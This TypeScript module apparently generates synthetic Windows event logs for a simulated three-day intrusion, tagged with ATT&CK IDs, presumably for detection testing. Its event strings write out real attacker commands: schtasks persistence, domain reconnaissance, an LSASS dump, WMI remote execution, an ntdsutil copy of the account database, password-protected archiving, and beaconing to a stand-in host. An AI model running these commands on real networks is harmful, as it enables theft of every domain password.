import { at, createCalendar } from '../activity/background/calendar.ts';
import { lsassOf, servicesOf, svchostOf, wmiHostOf } from '../activity/background/daemons.ts';
import { daemon, signIn } from '../activity/background/machine.ts';
import type { Account } from '../activity/background/machine.ts';
import {
  connects,
  createsFile,
  looksUp,
  opensProcess,
  start,
} from '../activity/background/process.ts';
import { apps } from '../activity/background/programs.ts';
import {
  getsPrivileges,
  grantsServiceTicket,
  logsOn,
  opensShare,
} from '../activity/background/security-log.ts';
import { log, pass } from '../activity/background/stage.ts';
import type { Stage } from '../activity/background/stage.ts';
import { installsService, registersTask, runsTask } from '../activity/background/system-logs.ts';
import { windows } from '../activity/background/windows-programs.ts';
import type { Estate, Host, HostRole } from '../activity/estate.ts';
import type { WindowsRecord } from '../activity/windows-record.ts';
import { theft } from './attack-programs.ts';
import { createCast, createTrace } from './scene.ts';
import type { Cast, ScenarioOptions, Step } from './scene.ts';

interface ClockStep extends Step {
  /** Days since the first. */
  readonly day: 0 | 1 | 2;
  /** Hours where the customer is, such as 23.7. */
  readonly clock: number;
  readonly play: (scene: Scene) => void;
}

interface Scene {
  /** Where the mail is opened. */
  readonly desk: Stage;
  readonly server: Stage;
  readonly domainController: Stage;
  /** Who opens it. */
  readonly victim: Account;
  /** An account with many rights whose password turns out to be short. */
  readonly stolen: Account;
  readonly cast: Cast;
}

const script = '{profile}\\AppData\\Roaming\\PrintCare\\spool.js';
const task = '\\PrintCare Spool';
const { folder } = theft;
const attacker = { ip: '203.0.113.77', port: 443, name: 'status.paketweg.example' };

/**
 * A theft of all passwords of a company that takes its time: three days from an opened mail to a packed
 * copy of the domain's account database, with an hour here and there, at times when nobody looks.
 */
export const credentialTheftSteps: readonly ClockStep[] = [
  {
    what: 'Somebody opens the archive of a mail and the script in it, which calls itself an invoice.',
    techniques: ['T1566.001', 'T1204.002', 'T1059.007'],
    ...{ day: 0, clock: 9.2 },
    play: ({ desk, victim, cast }) => {
      const explorer = daemon(desk.machine, windows.explorer, 'C:\\Windows\\Explorer.EXE', victim);
      const outlook = start(desk, explorer, apps.outlook, `"${apps.outlook.image}"`);
      const archive = 'Rechnung_4471.zip';
      createsFile(
        desk,
        outlook,
        `{profile}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\8QK2LXVD\\${archive}`,
      );
      pass(desk, 40_000, 90_000);
      const opened = `{profile}\\AppData\\Local\\Temp\\Temp1_${archive}\\Rechnung_4471.pdf.js`;
      const line = `"C:\\Windows\\System32\\WScript.exe" "${opened}"`;
      cast.enter('script', start(desk, explorer, windows.wscript, line));
    },
  },
  {
    what: 'The script copies itself and has a scheduled task start the copy every 45 minutes.',
    techniques: ['T1053.005'],
    ...{ day: 0, clock: 9.25 },
    play: ({ desk, victim, cast }) => {
      createsFile(desk, cast.actor('script'), script);
      pass(desk, 900, 2_000);
      const line = `schtasks /create /f /sc minute /mo 45 /tn "PrintCare Spool" /tr "wscript.exe //B //E:jscript ${script}"`;
      start(desk, cast.actor('script'), windows.schtasks, line, { livesMs: 300 });
      pass(desk, 50, 200);
      registersTask(desk, 106, task, victim);
    },
  },
  ...[9.4, 12.9, 17.1].map((clock): ClockStep => ({
    what: 'The copy asks its master whether there is something to do.',
    techniques: ['T1071.001'],
    ...{ day: 0, clock },
    play: callsHome,
  })),
  {
    what: 'Late in the evening it looks around: who am I, who is an administrator, which domains trust this one, where are the servers?',
    techniques: ['T1033', 'T1069.002', 'T1482', 'T1018'],
    ...{ day: 0, clock: 23.6 },
    play: (scene) => {
      callsHome(scene);
      const { desk, cast } = scene;
      const shell = start(
        desk,
        cast.actor('copy'),
        windows.cmd,
        '"C:\\Windows\\System32\\cmd.exe" /d /q',
      );
      for (const [program, line] of [
        [windows.whoami, 'whoami /all'],
        [windows.net, 'net group "domain admins" /domain'],
        [windows.nltest, 'nltest /domain_trusts /all_trusts'],
        [windows.nltest, `nltest /dclist:${desk.estate.dnsDomain}`],
        [windows.net, 'net view /all /domain'],
      ] as const) {
        pass(desk, 15_000, 240_000);
        start(desk, shell, program, line, { livesMs: desk.random.between(80, 3_000) });
      }
    },
  },
  {
    what: 'In the second night a program reads the memory of LSASS.',
    techniques: ['T1003.001'],
    ...{ day: 1, clock: 1.4 },
    play: (scene) => {
      callsHome(scene);
      const { desk, cast } = scene;
      createsFile(desk, cast.actor('copy'), theft.reader.image);
      pass(desk, 20_000, 60_000);
      const line = `${theft.reader.image} -q`;
      const account = { ...cast.actor('copy').account, integrity: 'High' as const };
      const reader = start(desk, cast.actor('copy'), theft.reader, line, {
        account,
        livesMs: 9_000,
      });
      pass(desk, 700, 2_000);
      opensProcess(desk, reader, lsassOf(desk.machine), '0x1410', minidumpTrace);
      pass(desk, 900, 2_500);
      createsFile(desk, reader, `${folder}\\lsass-4.dmp`);
    },
  },
  {
    what: 'Tickets of three service accounts are asked for in an old encryption, to guess their passwords elsewhere.',
    techniques: ['T1558.003'],
    ...{ day: 1, clock: 2.1 },
    play: ({ desk, domainController, victim }) => {
      for (const service of ['svc-backup', 'svc-sql', 'svc-scan']) {
        pass(domainController, 90_000, 400_000);
        grantsServiceTicket(domainController, victim.name, service, desk.machine, '0x17');
      }
    },
  },
  {
    what: 'One password was short: with it, WMI starts a command on a server.',
    techniques: ['T1078.002', 'T1047'],
    ...{ day: 1, clock: 22.7 },
    play: (scene) => {
      callsHome(scene);
      const { desk, server, stolen, cast } = scene;
      const command = `cmd.exe /q /c dir \\\\${server.machine.host.name}\\c$\\Users > ${folder}\\u.txt`;
      const line = `wmic /node:"${server.machine.host.name}" /user:${stolen.user} process call create "${command}"`;
      start(desk, cast.actor('copy'), windows.wmic, line, { livesMs: 4_000 });
      server.now = desk.now + 800;
      logsOn(server, stolen, { logonType: 3, from: desk.machine, package: 'NTLM' });
      getsPrivileges(server, stolen);
      pass(server, 200, 900);
      const provider = wmiHostOf(server.machine);
      start(server, provider, windows.cmd, command, { account: stolen, livesMs: 700 });
    },
  },
  {
    what: 'On the domain controller a program is copied over the administrative share and started as a service.',
    techniques: ['T1021.002', 'T1569.002', 'T1543.003'],
    ...{ day: 1, clock: 23.3 },
    play: ({ desk, domainController, stolen, cast }) => {
      logsOn(domainController, stolen, { logonType: 3, from: desk.machine, package: 'NTLM' });
      getsPrivileges(domainController, stolen);
      pass(domainController, 300, 900);
      opensShare(domainController, stolen, desk.machine, 'ADMIN$', ['kqvtzmxw.exe']);
      const { remoteService } = theft;
      installsService(domainController, {
        ...{ name: 'kqvtzmxw', path: '%SystemRoot%\\kqvtzmxw.exe', startType: 'demand start' },
      });
      pass(domainController, 300, 800);
      const services = servicesOf(domainController.machine);
      cast.enter('service', start(domainController, services, remoteService, remoteService.image));
    },
  },
  {
    what: 'In the third night a copy of the account database is made, as for setting up another domain controller.',
    techniques: ['T1003.003'],
    ...{ day: 2, clock: 1.9 },
    play: ({ domainController, cast }) => {
      const line = `ntdsutil "ac i ntds" "ifm" "create full ${folder}\\m" q q`;
      const tool = start(domainController, cast.actor('service'), theft.ntdsutil, line, {
        livesMs: 40_000,
      });
      pass(domainController, 20_000, 35_000);
      const copy = `${folder}\\m\\Active Directory\\ntds.dit`;
      createsFile(domainController, tool, copy);
      log(domainController, { channel: 'Application', provider: 'ESENT' }, 325, {
        Data: `ntdsutil (${tool.pid}) 2 ${copy}`,
      });
    },
  },
  {
    what: 'The copy is packed in pieces, with a password that hides even the names of the files.',
    techniques: ['T1560.001', 'T1074.001'],
    ...{ day: 2, clock: 3.1 },
    play: ({ domainController, cast }) => {
      const line = `${theft.packer.image} a -mhe=on -pT4lfahrt! -v20m ${folder}\\s.bin ${folder}\\m`;
      const packer = start(domainController, cast.actor('service'), theft.packer, line, {
        livesMs: 90_000,
      });
      for (const piece of ['001', '002', '003']) {
        pass(domainController, 9_000, 28_000);
        createsFile(domainController, packer, `${folder}\\s.bin.${piece}`);
      }
    },
  },
];

const minidumpTrace =
  'C:\\Windows\\SYSTEM32\\ntdll.dll+9fc24|C:\\Windows\\System32\\KERNELBASE.dll+20d0e|' +
  'C:\\Windows\\SYSTEM32\\dbgcore.DLL+6a2f';

/** The task starts the copy, which says a few words over HTTPS and ends. */
function callsHome({ desk, victim, cast }: Scene): void {
  const scheduler = svchostOf(desk.machine, 'Schedule');
  const line = `wscript.exe //B //E:jscript ${script}`;
  const copy = cast.enter(
    'copy',
    start(desk, scheduler, windows.wscript, line, { account: victim, livesMs: 90_000 }),
  );
  runsTask(desk, task, 'wscript.exe', copy.pid, 90_000);
  pass(desk, 900, 4_000);
  looksUp(desk, copy, attacker.name, attacker.ip);
  pass(desk, 20, 90);
  connects(desk, copy, attacker);
}

/** The first day is the one on which `startsAt` lies where the customer is; it is over two mornings later, by 4. */
export function credentialTheft({ estate, startsAt, seed }: ScenarioOptions): WindowsRecord[] {
  const trace = createTrace(estate, `${seed}/credential-theft`);
  const calendar = createCalendar(estate.timeZone);
  const first = calendar.dayAt(startsAt);
  const stageOn = (host: Host) => trace.stageOn(host, at(first, 7.4));
  const desk = stageOn(victimOf(estate));
  const owner = desk.machine.host.owner?.account ?? estate.providerAdmin;
  const scene: Scene = {
    ...{ desk, cast: createCast() },
    server: stageOn(hostOf(estate, 'APPLICATION_SERVER', 'FILE_SERVER')),
    domainController: stageOn(hostOf(estate, 'DOMAIN_CONTROLLER')),
    victim: signIn(estate, owner, desk.machine.host.name),
    stolen: signIn(estate, 'svc-backup', 'stolen', { session: 0, integrity: 'High' }),
  };
  for (const { day, clock, play } of credentialTheftSteps) {
    const now = at(calendar.dayOf(first.number + day), clock) + desk.random.below(120_000);
    for (const stage of [desk, scene.server, scene.domainController]) stage.now = now;
    play(scene);
  }
  return trace.inOrder();
}

/** Whoever keeps the accounts opens invoices. */
function victimOf({ hosts }: Estate): Host {
  const desks = hosts.filter(({ owner }) => owner !== undefined);
  const found = desks.find(({ owner }) => owner?.department === 'Accounts') ?? desks[0];
  if (found) return found;
  throw new RangeError('the estate has no workstation');
}

/** The first of these roles that the estate has. */
function hostOf({ hosts, company }: Estate, ...roles: readonly HostRole[]): Host {
  const found = roles.flatMap((role) => hosts.filter((host) => host.role === role))[0];
  if (found) return found;
  throw new RangeError(`${company} has no ${roles.join(' or ')}`);
}
